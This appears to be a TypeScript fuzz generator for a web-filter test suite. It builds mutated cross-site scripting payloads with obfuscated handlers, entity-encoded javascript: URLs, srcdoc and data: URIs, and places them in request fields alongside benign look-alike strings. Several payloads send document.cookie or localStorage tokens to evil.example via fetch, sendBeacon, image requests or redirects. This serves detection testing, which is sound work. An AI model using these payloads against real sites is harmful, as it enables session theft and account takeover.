// XSS as fuzzers mutate it (dalfox/XSStrike-style): a vector is built from parts a browser
// accepts, each drawn at random: tag and attribute names in mixed case, an event handler on
// one of many elements, the separator between tag name and attribute (`/`, tab, newline, form
// feed), quote-less, quoted or backtick values, javascript: URLs with entity-encoded letters,
// iframe srcdoc, svg animate/set, data: URIs; then placed in a query, form, JSON value, header,
// cookie or custom header. xss.ts covers the fixed grammar; this file draws the mutations.
import fc from "fast-check";
import type { Req } from "../engine.js";
import { place, type Position } from "./positions.js";
import { rng, type R } from "./rng.js";

const pickR = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];
const mix = (r: R, s: string) => s.replace(/[a-z]/gi, (c) => (r(2) ? c.toUpperCase() : c.toLowerCase()));
const word = (r: R, n: number) => Array.from({ length: n }, () => String.fromCharCode(0x61 + r(26))).join("");

/** Elements that carry a handler firing without a click (with the attribute that makes it fire), or on one. */
const TAGS: [string, string][] = [
  ["img", "src=x"], ["svg", ""], ["body", ""], ["video", "src=x"], ["audio", "src=x"], ["iframe", ""], ["details", "open"], ["input", "autofocus"],
  ["select", "autofocus"], ["textarea", "autofocus"], ["marquee", ""], ["object", "data=x"], ["embed", "src=x"], ["style", ""], ["x", "tabindex=1"],
  ["a", "href=#"], ["div", "tabindex=1"], ["form", ""], ["button", "autofocus"], ["keygen", "autofocus"], ["meter", ""], ["picture", ""], ["source", "src=x"],
  ["track", "src=x"], ["link", "rel=stylesheet href=x"], ["script", "src=x"], ["image", "src=x"], ["xmp", ""], ["noscript", ""], ["table", "background=x"],
  ["frameset", ""], ["html", ""], ["custom-el", "tabindex=0"], ["math", ""], ["output", ""], ["summary", ""], ["dialog", "open"], ["menu", ""],
];
const EVENTS = [
  "onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onbegin", "onanimationstart", "onanimationend", "onpointerover",
  "onpointerdown", "onwheel", "onfocusin", "onblur", "onpageshow", "oninput", "onauxclick", "onmouseenter", "onscroll", "onstart", "onbeforeprint",
  "onkeydown", "onkeyup", "ondblclick", "oncontextmenu", "ondrag", "onmousemove", "ontransitionend", "onresize", "onhashchange", "onmessage",
  "onpopstate", "onsearch", "onselect", "onchange", "oncopy", "onpaste", "oncut", "onplay", "onended", "onloadstart", "onprogress", "oncanplay",
  "ontouchstart", "onbeforeinput", "onformdata", "onsubmit", "oninvalid", "onshow", "onunload", "onafterprint", "onbeforeunload", "onmouseleave",
];

/** Script a fuzzer puts in a handler: calls, call-less spellings, property lookups that spell the function. */
const CODE: ((r: R) => string)[] = [
  () => "alert(1)", () => "alert`1`", (r) => `confirm(${1 + r(999)})`, () => "prompt(document.domain)", () => "(alert)(document.cookie)",
  () => "[1].find(alert)", () => "a=alert,a(1)", () => "top[/al/.source+/ert/.source](1)", (r) => `window['al'+'ert'](${r(99)})`,
  () => "self[`\\x61lert`](1)", () => "eval(atob(`YWxlcnQoMSk`))", () => "Function`a${atob`YWxlcnQoMSk`}```", () => "setTimeout`alert\\x281\\x29`",
  () => "location=`javas`+`cript:alert(1)`", () => "import(`//evil.example/x.js`)", (r) => `fetch('//${word(r, 5)}.example/?'+document.cookie)`,
  () => "document.location='//evil.example/?c='+document.cookie", () => "new Image().src='//evil.example/?'+document.cookie",
  () => "throw onerror=alert,1", () => "globalThis[`al`+`ert`](1)", () => "parent.alert(1)", () => "frames.confirm(1)", () => "print()",
  () => "alert(String.fromCharCode(88,83,83))", () => "with(document)alert(cookie)", () => "\\u0061lert(1)", () => "eval('ale'+'rt(1)')",
  () => "navigator.sendBeacon('//evil.example',document.cookie)", () => "window.open('//evil.example/'+localStorage.token)",
];
const code = (r: R) => pickR(r, CODE)(r);

/** Between a tag name and its first attribute, and between attributes: what HTML parsers take as a blank. */
const SEPS = [" ", "/", "\t", "\n", "\f", "\r", " /", "/ ", "//", "\t\n", "/x/"];
const sep = (r: R) => pickR(r, SEPS);
/** After an attribute value only a blank separates (`href=x/y=` is one value). */
const ws = (r: R) => pickR(r, [" ", "\t", "\n", "\f", " /"]);

/**
 * An attribute value: quote-less, quoted, or backtick-quoted (old IE, still tried). A quote-less
 * value ends at a blank, so script has its blanks written as comments, and a URL with blanks is quoted.
 */
function attr(r: R, v: string, script = true): string {
  const q = r(5);
  if (q <= 1 && script) return v.replace(/ /g, "/**/");
  if (q <= 1 && !/[\s]/.test(v)) return v;
  if (q === 2) return `"${v.replace(/"/g, "'")}"`;
  if (q === 3) return `'${v.replace(/'/g, "\"")}'`;
  return `\`${v.replace(/`/g, "'")}\``;
}
const eq = (r: R) => pickR(r, ["=", "=", "=", " = ", "\n=\n", "\t="]);

/** `javascript:` as the URL parser still reads it: case, blanks inside, numeric and named entities. */
function jsScheme(r: R): string {
  const letters = "javascript".split("").map((c) => {
    const k = r(7);
    if (k === 0) return `&#${c.charCodeAt(0)}${r(2) ? ";" : ""}`;
    if (k === 1) return `&#x${c.charCodeAt(0).toString(16)};`; // (no `;`: a following a-f would join the number)
    if (k === 2) return `&#${"0".repeat(1 + r(5))}${c.charCodeAt(0)};`;
    return r(2) ? c.toUpperCase() : c;
  });
  if (r(3) === 0) letters.splice(1 + r(8), 0, pickR(r, ["\t", "\n", "&Tab;", "&NewLine;", "&#9;", "&#x0a;"]));
  return (r(4) === 0 ? pickR(r, [" ", "\x01", "\x0f", "&#32;"]) : "") + letters.join("") + pickR(r, [":", ":", "&colon;", "&#58;", "&#x3a;"]);
}

/** A base64 of markup that runs script, as data: URIs carry it. */
const b64 = (s: string) => Buffer.from(s).toString("base64");

/** Script as an attribute's character references still spell it: the HTML parser decodes them before the handler runs. */
function entityCode(r: R, js: string): string {
  return js.replace(/[a-z()`'.=]/gi, (c) => {
    const k = r(4);
    if (k === 0) return `&#${c.charCodeAt(0)};`;
    if (k === 1) return `&#x${c.charCodeAt(0).toString(16)};`;
    if (k === 2 && "()".includes(c)) return c === "(" ? "&lpar;" : "&rpar;";
    return c;
  });
}
/** A custom element name, as fuzzers use to pass tag allow-lists: `<d3v`, `<x-a1`. */
const customTag = (r: R) => pickR(r, ["d3v", "x", "xss", "zz", "a1b", "x-y", "my-el", "d3\"<\""]) ;

const VECTORS: ((r: R) => string)[] = [
  // handler whose code is written with character references (decoded in the attribute)
  (r) => {
    const q = pickR(r, ["\"", "'", ""]);
    return `<${mix(r, pickR(r, ["img src=x", "svg", "body", "details open", "input autofocus", "video src=x"]))}${ws(r)}${mix(r, pickR(r, EVENTS))}=${q}${entityCode(r, pickR(r, ["alert(1)", "confirm(document.domain)", "prompt(1)", "alert`1`"]))}${q}>`;
  },
  // custom element with a handler that needs no click, and filler bytes a fuzzer puts before the handler
  (r) => `<${customTag(r)}${pickR(r, ["/+/", "%0a", "/", "\n", " ", "\t", "\f"]).replace("%0a", "\n")}${mix(r, pickR(r, ["onmouseover", "onclick", "onpointerenter", "onfocus", "onauxclick"]))}${pickR(r, ["=", "\n=", "=\n"])}${pickR(r, ["(confirm)()", "alert(1)", "[8].find(confirm)", "prompt`1`", "confirm&lpar;1&rpar;"])}${pickR(r, [">", " tabindex=1>", "//", ">v3dm0s"])}`,
  // a raw-text element closed inside an attribute: the parser ends <xmp>/<noscript>/<title> at the fake closing tag
  (r) => { const el = pickR(r, ["xmp", "noscript", "title", "textarea", "noembed", "iframe", "style"]); return `<${el}><p title="</${mix(r, el)}><${mix(r, "svg")}/${mix(r, "onload")}=${code(r).replace(/ /g, "/**/")}>">`; },
  // svg script: character references are decoded there
  (r) => `<${mix(r, "svg")}><${mix(r, "script")}>${entityCode(r, "alert(1)")}</${mix(r, "script")}>`,
  // handler without a value before one with, and src without a value
  (r) => `<${mix(r, "img")} src ${mix(r, "onerror")}=${code(r).replace(/ /g, "/**/")}>`,
  // handler on an element
  (r) => {
    const [tag, need] = pickR(r, TAGS);
    // (after a quote-less value only a blank separates: `src=x/onerror=` is one value)
    const pre = need && r(3) ? sep(r) + need + (need.includes("=") ? ws(r) : sep(r)) : sep(r);
    return `<${mix(r, tag)}${pre}${mix(r, pickR(r, EVENTS))}${eq(r)}${attr(r, code(r))}${pickR(r, [">", "", " ", "//", " x>", ">" + word(r, 3)])}`;
  },
  // javascript: URL in a link-like attribute
  (r) => {
    const [tag, a] = pickR(r, [["a", "href"], ["iframe", "src"], ["form><button", "formaction"], ["object", "data"], ["embed", "src"], ["svg><a", "xlink:href"], ["math><a", "href"], ["form", "action"], ["isindex", "action"], ["base", "href"]]);
    return `<${mix(r, tag)}${sep(r)}${mix(r, a)}${eq(r)}${attr(r, jsScheme(r) + code(r).replace(/ /g, "%20"), false)}>${pickR(r, ["click", "x", "", "<svg>"])}`;
  },
  // iframe srcdoc: markup in an attribute, entity-encoded
  (r) => {
    const inner = pickR(r, [`<script>${code(r)}</script>`, `<img src=x onerror=${code(r)}>`, `<svg onload=${code(r)}>`]);
    const enc = r(2) ? inner.replace(/</g, "&lt;").replace(/>/g, "&gt;") : inner.replace(/[<>=]/g, (c) => `&#${c.charCodeAt(0)};`);
    return `<${mix(r, "iframe")}${sep(r)}${mix(r, "srcdoc")}=${r(2) ? `"${enc.replace(/"/g, "&quot;")}"` : `'${enc.replace(/'/g, "&#39;")}'`}>`;
  },
  // svg animation: onbegin, or set/animate writing a javascript: URL into href
  (r) => `<${mix(r, "svg")}><${mix(r, pickR(r, ["animate", "set", "animatetransform", "animatemotion"]))}${sep(r)}${mix(r, "onbegin")}=${attr(r, code(r)).replace(/^`.*`$/, (v) => `"${v}"`)}${ws(r)}attributeName=x${r(2) ? " dur=1s" : ""}>`,
  (r) => `<${mix(r, "svg")}><a><${mix(r, pickR(r, ["set", "animate"]))}${sep(r)}attributeName=href${ws(r)}${pickR(r, ["to", "values", "from"])}=${attr(r, jsScheme(r) + code(r).replace(/ /g, "%20"), false)} /><text x=20 y=20>${word(r, 4)}</text></a>`,
  // data: URIs in a frame
  (r) => {
    const q = pickR(r, ["", "\"", "'"]);
    return `<${mix(r, pickR(r, ["iframe src", "object data", "embed src"])).replace(" ", sep(r))}=${q}${mix(r, "data")}:text/html;base64,${b64(`<script>${code(r)}</script>`)}${q}>`;
  },
  (r) => `<${mix(r, pickR(r, ["iframe src", "object data"])).replace(" ", sep(r))}="data:text/html,${encodeURIComponent(`<script>${code(r)}</script>`)}">`,
  // script element, with the fuzzer's case and separators
  (r) => `<${mix(r, "script")}${pickR(r, [">", " >", "/x>", "\n>", " type=text/javascript>"])}${code(r)}</${mix(r, "script")}${pickR(r, [">", " >", "\t>"])}`,
  (r) => `<${mix(r, "script")}${sep(r)}src=${pickR(r, ["//evil.example/x.js", "https://evil.example/a", "data:,alert(1)", "//\u0065vil.example"])}></${mix(r, "script")}>`,
];

/** Closing what the value lands in first (attribute, text element, comment, script string). */
const BREAKS = ["", "", "", "\">", "'>", ">", "\"/>", "</title>", "</textarea>", "-->", "</style>", "</noscript>", "\"><!--", "'\"><", "</script>"];

export interface FuzzedXss { value: string; req: Req; pos: string }

/** Places a vector: the positions of positions.ts, or a custom header / Referer a scanner also fills. */
function placeXss(value: string, k: number, n: number): Req {
  const POS: Position[] = ["query", "form", "json", "header", "cookie", "query"];
  if (k < POS.length) return place(value, POS[k], n, n % 3 === 0);
  const name = ["x-forwarded-host", "referer", "x-api-version", "x-requested-with"][n % 4];
  const v = name === "referer" ? `https://svc.local/search?q=${encodeURIComponent(value)}` : value.replace(/[\r\n]/g, " ");
  return { method: "GET", path: "/app/home", headers: [["host", "svc.local"], [name, v]] };
}

export const fuzzedXss: fc.Arbitrary<FuzzedXss> = fc.record({ seed: fc.nat(), v: fc.nat(VECTORS.length - 1), b: fc.nat(BREAKS.length - 1), k: fc.nat(6), n: fc.nat(13) }).map(({ seed, v, b, k, n }) => {
  const r = rng(seed);
  const value = BREAKS[b] + VECTORS[v](r);
  return { value, req: placeXss(value, k, n), pos: String(k) };
});

/** Markup and handler words that a rich-text field, a template or prose carries without script. */
export const fuzzedXssBenign: fc.Arbitrary<string> = fc.constantFrom(
  "<a href=\"https://example.com/docs\" title=\"Docs\">docs</a>", "<img src=\"/static/logo.png\" alt=\"logo\" width=\"40\">",
  "<p style=\"color: red\">Note</p>", "the onerror callback fires when loading fails", "Use the onClick prop in React",
  "<svg width=\"24\" height=\"24\"><path d=\"M0 0h24v24H0z\"/></svg>", "<video src=\"/media/intro.mp4\" controls></video>",
  "Set the data: field to text/html for previews", "<details open><summary>More</summary>Text</details>", "<input type=\"text\" name=\"q\" autofocus>",
  "javascript and java are different languages", "<animate attributeName=\"opacity\" dur=\"1s\"/>", "srcdoc is an iframe attribute", "<b>bold</b> & <i>it</i>",
  "{\"onload\": true, \"template\": \"<b>{{name}}</b>\"}", "`code` in backticks", "x=1/y=2/z=3", "<3 love it", "a < b > c",
);
